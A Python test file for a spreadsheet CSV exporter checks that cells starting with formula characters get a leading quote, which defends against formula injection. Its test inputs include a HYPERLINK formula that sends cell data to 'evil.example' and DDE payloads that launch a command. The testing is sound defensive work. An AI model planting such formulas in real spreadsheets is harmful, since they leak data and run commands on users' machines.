"""Spreadsheet cells: text a spreadsheet would run as a formula is written as text, everything else as it is."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stratagraph.spreadsheet import FORMULA_STARTS, cell, csv_text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
    ],
)
def test_a_cell_that_would_start_a_formula_starts_with_a_quote(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Cục Báo chí", "Chủ trì", "2025", "", "'=1", " =1", "task/x-1", "Đ=1"])
def test_other_cells_are_left_as_they_are(text: str) -> None:
    assert cell(text) == text


def test_none_is_an_empty_cell_and_numbers_are_text() -> None:
    assert (cell(None), cell(-5), cell(3)) == ("", "'-5", "3")


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=4))
def test_a_csv_reads_back_as_the_cells_with_no_formula(rows: list[list[str]]) -> None:
    text = csv_text(rows)
    assert text.startswith('\ufeff"')
    read = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert read == [[cell(value) for value in row] for row in rows]
    assert not any(value.startswith(FORMULA_STARTS) for row in read for value in row)
    for written, original in zip((v for row in read for v in row), (v for row in rows for v in row), strict=True):
        # the quote is the only change, and only where a formula would start
        assert written == original or (written == "'" + original and original.startswith(FORMULA_STARTS))
